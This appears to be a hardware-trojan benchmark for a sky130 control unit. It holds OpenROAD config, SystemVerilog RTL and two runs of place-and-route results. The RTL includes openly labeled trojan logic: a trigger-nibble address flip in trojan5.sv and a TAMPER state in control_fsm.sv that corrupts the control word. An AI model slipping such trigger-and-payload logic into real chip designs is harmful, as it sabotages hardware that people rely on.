**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = control_host_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/design/ctrl_pkg.sv /design/src/design/instr_decoder.sv /design/src/design/fetch_tracker.sv /design/src/design/trojan5.sv /design/src/design/control_fsm.sv /design/src/design/control_host_top.sv
export VERILOG_INCLUDE_DIRS = /design/src /design/src/design
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 10
export CORE_ASPECT_RATIO = 0.75
export CORE_UTILIZATION = 25
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 0
export HOLD_SLACK_MARGIN = 0.03
export RECOVER_POWER = 25
export SETUP_SLACK_MARGIN = 0.05
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 2.2 [get_ports clk]
set_input_delay 0.33 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.33 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
```
**src/design/ctrl_config.svh**
```systemverilog
// Width, seed and trojan constants shared by the control host RTL
// Include in any file that needs one of these values
`ifndef CTRL_CONFIG_SVH
`define CTRL_CONFIG_SVH

// Datapath widths
`define CTRL_INSTR_WIDTH      16
`define CTRL_SIGNAL_WIDTH     12
`define CTRL_PROG_DAT_WIDTH   14
`define CTRL_PROG_ADR_WIDTH   13
`define CTRL_DEC_COUNT_WIDTH  8
`define CTRL_LFSR_WIDTH       32

// Step counter wraps at this value
`define CTRL_STATE_COUNT      16

// Pattern register value out of reset
`define CTRL_LFSR_SEED        32'hB0006000

// Trojan trigger and payload
`define TROJ_TRIGGER_NIBBLE   4'hA
`define TROJ_ADR_MASK         13'h1555
`define TAMPER_COUNT_MATCH    3'b111

`endif

```
**src/design/ctrl_pkg.sv**
```systemverilog
// Types shared across the control host blocks
// Modules pull these in with a wildcard import
`default_nettype none

`include "ctrl_config.svh"

package ctrl_pkg;

    typedef logic [`CTRL_INSTR_WIDTH-1:0]             instr_t;
    typedef logic [3:0]                               opcode_t;
    typedef logic [3:0]                               cond_flags_t; // Z C N V from bit 0
    typedef logic [`CTRL_SIGNAL_WIDTH-1:0]            ctrl_word_t;
    typedef logic [$clog2(`CTRL_STATE_COUNT)-1:0]     step_t;
    typedef logic [`CTRL_PROG_DAT_WIDTH-1:0]          prog_dat_t;
    typedef logic [`CTRL_PROG_ADR_WIDTH-1:0]          prog_adr_t;
    typedef logic [`CTRL_DEC_COUNT_WIDTH-1:0]         dec_count_t;

    // Instruction layout, opcode in the top nibble
    typedef struct packed {
        opcode_t    opcode;
        logic [3:0] reg_addr;
        logic [7:0] imm;
    } instr_fields_t;

    typedef struct packed {
        prog_dat_t  prog_dat;  // Pattern bits mixed with opcode
        prog_adr_t  pc;
        dec_count_t dec_count;
    } fetch_trace_t;

    typedef struct packed {
        ctrl_word_t ctrl_word;
        logic       branch;
    } decode_out_t;

    typedef enum logic [2:0] {
        FETCH,
        DECODE,
        EXECUTE,
        DONE,
        TAMPER
    } ctrl_state_e;

endpackage

`default_nettype wire

```
**src/design/instr_decoder.sv**
```systemverilog
// Combinational instruction decode with opcode table and branch resolve
// Instruction and flags must be held stable while the controller runs
`timescale 1ns/1ps
`default_nettype none

module instr_decoder
    import ctrl_pkg::*;
(
    input  instr_t        instr_i,
    input  cond_flags_t   cond_flags_i,
    output instr_fields_t fields_o,
    output decode_out_t   dec_o
);

    localparam opcode_t OP_NOP    = 4'd0;
    localparam opcode_t OP_LOAD   = 4'd1;
    localparam opcode_t OP_STORE  = 4'd2;
    localparam opcode_t OP_ADD    = 4'd3;
    localparam opcode_t OP_SUB    = 4'd4;
    localparam opcode_t OP_AND    = 4'd5;
    localparam opcode_t OP_OR     = 4'd6;
    localparam opcode_t OP_XOR    = 4'd7;
    localparam opcode_t OP_JUMP   = 4'd8;
    localparam opcode_t OP_BRANCH = 4'd9;
    localparam opcode_t OP_CALL   = 4'd10;
    localparam opcode_t OP_RET    = 4'd11;

    instr_fields_t fields;

    assign fields   = instr_fields_t'(instr_i);
    assign fields_o = fields;

    // One hot word, bit n for opcode n
    always_comb begin
        case (fields.opcode)
            OP_NOP,
            OP_LOAD,
            OP_STORE,
            OP_ADD,
            OP_SUB,
            OP_AND,
            OP_OR,
            OP_XOR,
            OP_JUMP,
            OP_BRANCH,
            OP_CALL,
            OP_RET:  dec_o.ctrl_word = ctrl_word_t'(1) << fields.opcode;
            default: dec_o.ctrl_word = '0; // Opcodes 12 to 15 are unused
        endcase
    end

    // Jump is always taken, branch picks a flag by imm[1:0]
    always_comb begin
        case (fields.opcode)
            OP_JUMP:   dec_o.branch = 1'b1;
            OP_BRANCH: dec_o.branch = cond_flags_i[fields.imm[1:0]];
            default:   dec_o.branch = 1'b0;
        endcase
    end

endmodule

`default_nettype wire

```
**src/design/fetch_tracker.sv**
```systemverilog
// Fetch-side state that feeds the trojan block
// LFSR pattern, opcode-stepped pc and decode count move on every fetch pulse
`timescale 1ns/1ps
`default_nettype none

`include "ctrl_config.svh"

module fetch_tracker
    import ctrl_pkg::*;
(
    input  wire          clk,
    input  wire          pon_rst_n_i,
    input  wire          instr_fetch_i,
    input  opcode_t      opcode_i,
    output fetch_trace_t trace_o
);

    logic [`CTRL_LFSR_WIDTH-1:0] pattern_q;
    prog_adr_t                   pc_q;
    dec_count_t                  count_q;
    logic                        feedback;

    // Taps at 31 27 19 11
    assign feedback = pattern_q[31] ^ pattern_q[27] ^ pattern_q[19] ^ pattern_q[11];

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            pattern_q <= `CTRL_LFSR_SEED;
            pc_q      <= '0;
            count_q   <= '0;
        end else if (instr_fetch_i) begin
            pattern_q <= {pattern_q[`CTRL_LFSR_WIDTH-2:0], feedback};
            pc_q      <= pc_q + prog_adr_t'(opcode_i); // Step by the opcode value
            count_q   <= count_q + 1'b1;
        end
    end

    // Low pattern bits mixed with the live opcode
    assign trace_o.prog_dat  = pattern_q[`CTRL_PROG_DAT_WIDTH-1:0] ^ prog_dat_t'(opcode_i);
    assign trace_o.pc        = pc_q;
    assign trace_o.dec_count = count_q;

endmodule

`default_nettype wire

```
**src/design/trojan5.sv**
```systemverilog
// Trojan address block hosted by the control unit
// Passes the pc through and flips it with a mask when the trigger nibble shows up
`timescale 1ns/1ps
`default_nettype none

`include "ctrl_config.svh"

module trojan5
    import ctrl_pkg::*;
(
    input  wire       pon_rst_n_i,
    input  prog_dat_t prog_dat_i,
    input  prog_adr_t pc_reg_i,
    output prog_adr_t prog_adr_o
);

    logic triggered;

    assign triggered = (prog_dat_i[3:0] == `TROJ_TRIGGER_NIBBLE);

    always_comb begin
        if (!pon_rst_n_i) begin
            prog_adr_o = '0;
        end else if (triggered) begin
            prog_adr_o = pc_reg_i ^ `TROJ_ADR_MASK; // Tampered address
        end else begin
            prog_adr_o = pc_reg_i;
        end
    end

endmodule

`default_nettype wire

```
**src/design/control_fsm.sv**
```systemverilog
// Sequences each fetched instruction and registers all host outputs
// Also holds the payload step that folds the trojan address into the control word
`timescale 1ns/1ps
`default_nettype none

`include "ctrl_config.svh"

module control_fsm
    import ctrl_pkg::*;
(
    input  wire         clk,
    input  wire         pon_rst_n_i,
    input  wire         instr_fetch_i,
    input  decode_out_t dec_i,
    input  dec_count_t  dec_count_i,
    input  prog_adr_t   prog_adr_i,
    output ctrl_word_t  control_signals_o,
    output step_t       next_state_o,
    output logic        branch_taken_o,
    output logic        control_ready_o
);

    localparam step_t STEP_LAST = step_t'(`CTRL_STATE_COUNT - 1);

    ctrl_state_e state_q;
    logic        tamper_armed;

    // Payload fires on a taken branch when the count hits the match value
    assign tamper_armed = branch_taken_o &&
                          (dec_count_i[2:0] == `TAMPER_COUNT_MATCH);

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            state_q <= FETCH;
        end else begin
            case (state_q)
                FETCH: begin
                    if (instr_fetch_i) begin
                        state_q <= DECODE;
                    end
                end
                DECODE:  state_q <= EXECUTE;
                EXECUTE: state_q <= DONE;
                DONE:    state_q <= TAMPER;
                TAMPER:  state_q <= FETCH;
                default: state_q <= FETCH;
            endcase
        end
    end

    // Control word loads in DECODE and may be tampered in TAMPER
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            control_signals_o <= '0;
        end else if (state_q == DECODE) begin
            control_signals_o <= dec_i.ctrl_word;
        end else if (state_q == TAMPER && tamper_armed) begin
            control_signals_o <= control_signals_o ^
                                 prog_adr_i[`CTRL_SIGNAL_WIDTH-1:0]; // Trojan payload
        end
    end

    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            branch_taken_o <= 1'b0;
        end else if (state_q == EXECUTE) begin
            branch_taken_o <= dec_i.branch;
        end
    end

    // Wrapping step count, one step per instruction
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            next_state_o <= '0;
        end else if (state_q == EXECUTE) begin
            if (next_state_o == STEP_LAST) begin
                next_state_o <= '0;
            end else begin
                next_state_o <= next_state_o + 1'b1;
            end
        end
    end

    // One cycle ready strobe
    always_ff @(posedge clk or negedge pon_rst_n_i) begin
        if (!pon_rst_n_i) begin
            control_ready_o <= 1'b0;
        end else begin
            control_ready_o <= (state_q == DONE);
        end
    end

endmodule

`default_nettype wire

```
**src/design/control_host_top.sv**
```systemverilog
// Top of the control host benchmark
// Ties the fetch tracker, decoder, trojan block and controller together
`timescale 1ns/1ps
`default_nettype none

module control_host_top
    import ctrl_pkg::*;
(
    input  wire         clk,
    input  wire         pon_rst_n_i,
    input  instr_t      instr_i,
    input  cond_flags_t cond_flags_i,
    input  wire         instr_fetch_i,
    output ctrl_word_t  control_signals_o,
    output step_t       next_state_o,
    output logic        branch_taken_o,
    output logic        control_ready_o
);

    instr_fields_t fields;
    decode_out_t   dec;
    fetch_trace_t  trace;
    prog_adr_t     prog_adr;

    instr_decoder instr_decoder_i (
        .instr_i      (instr_i),
        .cond_flags_i (cond_flags_i),
        .fields_o     (fields),
        .dec_o        (dec)
    );

    fetch_tracker fetch_tracker_i (
        .clk           (clk),
        .pon_rst_n_i   (pon_rst_n_i),
        .instr_fetch_i (instr_fetch_i),
        .opcode_i      (fields.opcode),
        .trace_o       (trace)
    );

    trojan5 trojan5_i (
        .pon_rst_n_i (pon_rst_n_i),
        .prog_dat_i  (trace.prog_dat),
        .pc_reg_i    (trace.pc),
        .prog_adr_o  (prog_adr)
    );

    control_fsm control_fsm_i (
        .clk               (clk),
        .pon_rst_n_i       (pon_rst_n_i),
        .instr_fetch_i     (instr_fetch_i),
        .dec_i             (dec),
        .dec_count_i       (trace.dec_count),
        .prog_adr_i        (prog_adr),
        .control_signals_o (control_signals_o),
        .next_state_o      (next_state_o),
        .branch_taken_o    (branch_taken_o),
        .control_ready_o   (control_ready_o)
    );

endmodule

`default_nettype wire

```
==> impl_results.md, run 1 <==
- Status: complete, but fails checks
- Failing checks: negative hold slack
- Share of cells above drive strength 1: between 30% and 40%
- First drt pass iteration count: 4
- Min setup slack post-route: between 0.2 and 0.25 ns
- Crit path kind: reg2reg
- Sequential cell area: between 1500 and 2000 um2
- WL final: approximately 6800 um
- Dpl hpwl: 4860 um
- Die X: 138 um
- Die H: about 100 um
- Family with the most delay on the worst path: adder cells
- Max Clock Freq: slightly above 0.5 GHz
- Synth Net Count: 335
- Worst Reg2Reg Path Length in Cells: 6
- Fin Setup TNS: 0 ns
- Hold Violations, Final: 2
- ANT cells: 0
- TritonCTS Buffers: 9
- Peak supply drop: 557 uV
- Crit start category: flip-flop
- Leakage: 1.80 nW
- Min Hold Slack: -0.000565 ns
- Largest net degree at the start of global routing: 71
- I/O pins: just over 40
- Clock-pin slew on the worst setup and hold paths: ~0.06 ns
- Clock Latency Late Sink: 0.34 ns
- Worst Path Max Fanout: 4
- Drt drc: 0
- Worst-path cell chain: ha_1 > fa_1 > a211oi_1 > nor2_1 > and3_1 > xor2_1
- Number of H-tree levels: 3
- Fill cells: 1,373
- Critical R2R Launch: fetch_tracker_i/pc_q[0]
- Hold Path Class: in2async
- Final Slew Violations: 0
- GRT Residual Overflow: 0
- Clk root buf: clkbuf_16
- Initial Util: 26.2%
- Yosys warns: 6
- Drt wl/cell: roughly 13 um
- RePlAce Congestion: between 0.7 and 0.8
- First-pass GRT wire length: about 12,000 um
- Slowest stage delay, CP: between 0.4 and 0.5 ns
- DP Cell Count: between 500 and 600
- Worst path arrival time: approximately 2.2 ns
- Req. time, crit path: 2.42 ns
- Setup repair after global routing missed its margin: false
- Row cnt: 36
- GRT Overall Usage: between 10% and 20%
- Setup WS pre-CTS: -0.234 ns
- Layout Utilization: between 30% and 40%
- Layout area overhead: 21.5%
- Worst-Margin Slew: between 0.9 and 1 ns
- Vias in the first global route: 2,392
- Finished Layout Cells: roughly 520
- Via-to-Cell Ratio: ~4.6
- Clk sink count: about 70
- CP Capture Type: flip-flop
- Reg2reg end: fetch_tracker_i/pc_q[6]
- CP max-delay cell: fa_1
- Post-synthesis average cell area: 11.4 um2
- Buf/Inv on CP: 0
- # nets final: roughly 380
- Initial antenna violation count: 0
- # setup viols final: 0
- # port buffers: 29
- CTS tree: built
- Detail Route Antenna Nets: 0
- Post-layout power: roughly 5.5 mW
- Longest Clk Path Bufs: 2
- Multi-input gate area: 1620 um2
- Placed Area: 3900 um2
- Pwr Density: approximately 1300 nW/um2
- Cell count after synthesis: 305
- Initial DRC count: 76
- Tmin final: 1.99 ns
- Core ar.: between 10,000 and 15,000 um2
- Die area: roughly 14,000 um2
- Final Cycle Share: between 90% and 100%
- Via count: 2,411
- Final instance area: between 4000 and 5000 um2
- Synthesized cell area: 3470 um2
- # Post-CTS Setup Buffers: 0
- R2R Setup Slk: approximately 0.21 ns
- Max cap viols: 0
- Slew Limit Headroom: between 30% and 40%
- Worst Skew: 0.00599 ns
==> layout make-up <==
cell class / count / area share [%]
multi-input cells: 214 / 38.4
inverters: 1 / 0.0890
well taps: 171 / 5.08
repair buffers: 29 / 5.25
clock inverters: 6 / 1.69
flip-flops and latches: 68 / 40.5
clock buffers: 10 / 5.67
plain buffers: 22 / 3.27
==> flip-flops by register name, indices dropped and copies added (netlist names) <==
register / count
fetch_tracker_i/count_q: 3
control_fsm_i/branch_taken_o: 1
control_fsm_i/control_signals_o: 12
fetch_tracker_i/pc_q: 12
control_fsm_i/control_ready_o: 1
control_fsm_i/state_q: 3
fetch_tracker_i/pattern_q: 32
control_fsm_i/next_state_o: 4
==> cell usage in the layout, fill, tap and decap left out, drive strengths merged, types with 3 or more instances in the layout <==
master  count
xor2       10
nand4      10
nor3        7
a21oi       4
or3         5
dfstp       5
nor2       17
or4         7
ha          6
dfrtp      63
a31oi       6
nand3       9
clkbuf     14
o21ai       6
xnor2      11
mux2       39
o311ai      5
nand2b      3
or2b        6
and2        6
nand2      28
mux2i       7
nor3b       4
buf        47
==> worst max path at each step <==
stage                                      start                                  to  slack, ns  cells after the start
CTS                                  pon_rst_n_i  control_fsm_i/control_signals_o[8]       0.12                      7
detailed placement                   pon_rst_n_i  control_fsm_i/control_signals_o[8]      -0.23                      7
global route        fetch_tracker_i/pattern_q[0]  control_fsm_i/control_signals_o[8]        0.1                      7
floorplan                            instr_i[12]             fetch_tracker_i/pc_q[6]       0.30                      7
finish                   fetch_tracker_i/pc_q[0]             fetch_tracker_i/pc_q[6]       0.21                      6
global placement                     pon_rst_n_i  control_fsm_i/control_signals_o[8]      -0.21                      7
==> what timing repair did <==
item	4_1_cts	5_1_grt
setup endpoints to repair	0	6
hold buffers	0	0
resized for setup	0	1
==> routing by layer <==
layer / vias to the layer above / part of all wire (%) / GRT usage [%]
li1: 1171 / - / -
met1: 1187 / 50 / 14.1
met2: 40 / 43 / 14.9
met3: 13 / 5.0 / 4.19
met4: 0 / 1.7 / 4.55
met5: - / 0 / 0
==> power by group <==
part	internal [mW]	switching [mW]	leakage (nW)	total [mW]
logic	0.957	0.765	0.824	1.72
clock network	0.915	0.551	0.145	1.47
registers	1.82	0.452	0.835	2.28
total	3.70	1.77	1.80	5.46
Note: power is estimated with default switching activity, not from simulation.
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -6,6 +6,7 @@
 export SDC_FILE = /design/constraint.sdc
 export NUM_CORES = 1
 export LEC_CHECK = 0
+export ABC_AREA = 1
 export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
 export CAP_MARGIN = 10
 export CORE_ASPECT_RATIO = 0.75
==> run 2 against run 1 <==
- the flow now finishes without violations
- final cell count grew 48%
- sequential share of layout area decreased by 4.0 points
- maximum frequency grew 5.0%
- sequential power down 12%
- wire length is 28% higher
- global-route usage is 1.2 points higher
- total power grew 0.20%
- hold slack better by 0.13 ns
- first-iteration DRC count rose to 2.8 times the previous value
- die area rose by 12%
- critical path depth up 5
- clock-buffer cell count increased by 1
- critical endpoint is now control_fsm_i/control_signals_o[10]
==> impl_results.md, run 2 <==
- Status: finished, final reports clean (was complete, but fails checks)
- Largest net degree at the start of global routing: 72 (was 71)
- Hold Path Class: in2async (unchanged)
- # Post-CTS Setup Buffers: 0 (unchanged)
- Via-to-Cell Ratio: 4.15 (was 4.63)
- Worst path arrival time: 2.12 ns (was 2.20 ns)
- Final Cycle Share: 86.1% (was 90.3%)
- Top Registers: fetch_tracker_i/pattern_q x32, control_fsm_i/control_signals_o x12, fetch_tracker_i/pc_q x12 (unchanged)
- Number of H-tree levels: 3 (unchanged)
- Share of cells above drive strength 1: 18.4% (was 31.1%)
- Setup repair after global routing missed its margin: false (unchanged)
- Clock Latency Late Sink: 0.33 ns (was 0.34 ns)
- Synthesized cell area: 3890 um2 (was 3470 um2)
- Core ar.: 15,200 um2 (was 13,200 um2)
- Clk root buf: clkbuf_16 (unchanged)
- CP startpoint: pon_rst_n_i (was fetch_tracker_i/pc_q[0])
- Layout area overhead: 20.1% (was 21.5%)
- Clk sink count: 68 (unchanged)
- Initial Util: 25.6% (was 26.2%)
- Tmin final: 1.89 ns (was 1.99 ns)
- Worst Reg2Reg Path Length in Cells: 14 (was 6)
- Max Clock Freq: 0.528 GHz (was 0.503 GHz)
- Worst Skew: 0.00623 ns (was 0.00599 ns)
- Initial DRC count: 216 (was 76)
- Pwr Density: 1170 nW/um2 (was 1300 nW/um2)
- Reg2reg end: control_fsm_i/control_signals_o[10] (was fetch_tracker_i/pc_q[6])
- Row cnt: 39 (was 36)
- Leakage: 2.38 nW (was 1.80 nW)
- First drt pass iteration count: 4 (unchanged)
- Initial antenna violation count: 0 (unchanged)
- Drt wl/cell: 11.3 um (was 13.0 um)
- Die H: 110 um (was 104 um)
- Worst-Margin Slew: 0.925 ns (was 0.901 ns)
- Vias in the first global route: 2,986 (was 2,392)
- Top reg by flops: fetch_tracker_i/pattern_q (unchanged)
- # port buffers: 30 (was 29)
- Crit path kind: in2reg (was reg2reg)
- Clock-pin slew on the worst setup and hold paths: 0.06 ns (about the same)
- TritonCTS Buffers: 9 (unchanged)
- Die area: 16,100 um2 (was 14,400 um2)
- I/O pins: 41 (unchanged)
- Via count: 3,197 (was 2,411)
- ANT cells: 0 (unchanged)
- Critical R2R Launch: fetch_tracker_i/pattern_q[3] (was fetch_tracker_i/pc_q[0])
- Cell count after synthesis: 519 (was 305)
- Drt drc: 0 (unchanged)
- Crit start category: primary input (was flip-flop)
- Commonest cells after routing, fill and taps aside: nand2_1 (184), dfrtp_1 (63), inv_1 (62) (was dfrtp_1 (63), mux2_2 (38), buf_4 (34))
- Max cap viols: 0 (unchanged)
- Longest Clk Path Bufs: 2 (unchanged)
- Hold Violations, Final: 0 (was 2)
- R2R Setup Slk: 0.45 ns (was 0.21 ns)
- RePlAce Congestion: 0.878 (was 0.769)
- Die X: 146 um (was 138 um)
- Cells resized by post-CTS repair: 0 (unchanged)
- # nets final: 590 (was 375)
- Dpl hpwl: 6160 um (was 4860 um)
- CP Capture Type: flip-flop (unchanged)
- Slew Limit Headroom: 38.3% (was 39.8%)
- Max FFs per register: 32 (unchanged)
- GRT Overall Usage: 11.7% (was 10.5%)
- Final Slew Violations: 0 (unchanged)
- Worst Path Max Fanout: 71 (was 4)
- Detail Route Antenna Nets: 0 (unchanged)
- # setup viols final: 0 (unchanged)
- Setup crit end: control_fsm_i/control_signals_o[10] (was fetch_tracker_i/pc_q[6])
- Final instance area: 4680 um2 (was 4220 um2)
- Yosys warns: 6 (unchanged)
- Fill cells: 1,678 (was 1,373)
- Placed Area: 4370 um2 (was 3900 um2)
- Post-synthesis average cell area: 7.50 um2 (was 11.4 um2)
- Req. time, crit path: 2.42 ns (about the same)
- Setup WS pre-CTS: -0.0297 ns (was -0.234 ns)
- First-pass GRT wire length: 14,800 um (was 12,000 um)
- Peak supply drop: 587 uV (was 557 uV)
- GRT Residual Overflow: 0 (unchanged)
- Commonest non-fill, non-tap cell in the layout: nand2_1 (was dfrtp_1)
- Synth Net Count: 549 (was 335)
- Hold Buf Count CTS: 0 (unchanged)
- CTS tree: built (unchanged)
- WL final: 8670 um (was 6760 um)
- Min setup slack post-route: 0.307 ns (was 0.213 ns)
- Min Hold Slack: 0.128 ns (was -0.000565 ns)
-- run 2: worst min-delay path by stage --
stage                                  start                                  to  slack, ns  depth (start not counted)
3_3_place_gp    fetch_tracker_i/pattern_q[9]       fetch_tracker_i/pattern_q[10]       0.46                          2
2_1_floorplan                    pon_rst_n_i        control_fsm_i/branch_taken_o       0.03                          0
5_1_grt                          pon_rst_n_i             fetch_tracker_i/pc_q[4]       0.23                          1
4_1_cts                          pon_rst_n_i  control_fsm_i/control_signals_o[9]       0.17                          1
6_report                         pon_rst_n_i  control_fsm_i/control_signals_o[7]       0.13                          1
3_5_place_dp   fetch_tracker_i/pattern_q[10]       fetch_tracker_i/pattern_q[10]       0.46                          2
-- run 2: critical path, stage by stage --
cell	delay, ns
buf_4	0.68
buf_2	0.36
nand2_1	0.08
nor2_1	0.22
inv_1	0.08
nand2_1	0.06
nand2_1	0.05
nand2_1	0.07
nand2_1	0.06
nand2_1	0.06
nand2_1	0.04
-- run 2: per-stage QoR --
| step | util [%] | cells | total power [mW] | setup TNS, ns |
|---|---|---|---|---|
| after detailed placement | 28.7 | 754 | 3.94 | -0.0297 |
| after global routing | 30.7 | 770 | 5.96 | 0 |
| after global placement | 28.7 | 754 | 3.91 | -0.0259 |
| after floorplan | - | 519 | 3.33 | 0 |
| final | 30.7 | 770 | 5.47 | 0 |
| after CTS | 30.9 | 770 | 5.56 | 0 |
-- run 2: final cells by class --
type | instances | area [um2] | area share, %
Clock inverter | 5 | 85.1 | 1.82
Inverter | 68 | 255 | 5.46
Clock buffer | 11 | 243 | 5.19
Timing Repair Buffer | 30 | 221 | 4.74
Multi-Input combinational cell | 360 | 1750 | 37.4
Sequential cell | 68 | 1710 | 36.5
Tap cell | 205 | 256 | 5.49
Buffer | 23 | 160 | 3.43
-- run 2: per-layer routing --
metal,vias up,track usage (%),part of all wire [%]
met1,1448,16.9,53
met3,2,4.65,6.9
li1,1683,-,-
met4,0,2.90,0.22
met5,-,0,0
met2,64,15.9,39
-- run 2: power by group --
part	switching, mW	leakage [nW]	internal (mW)
sequential	0.382	0.866	1.62
clock	0.538	0.156	1.03
combinational	1.10	1.35	0.808
total	2.02	2.38	3.46
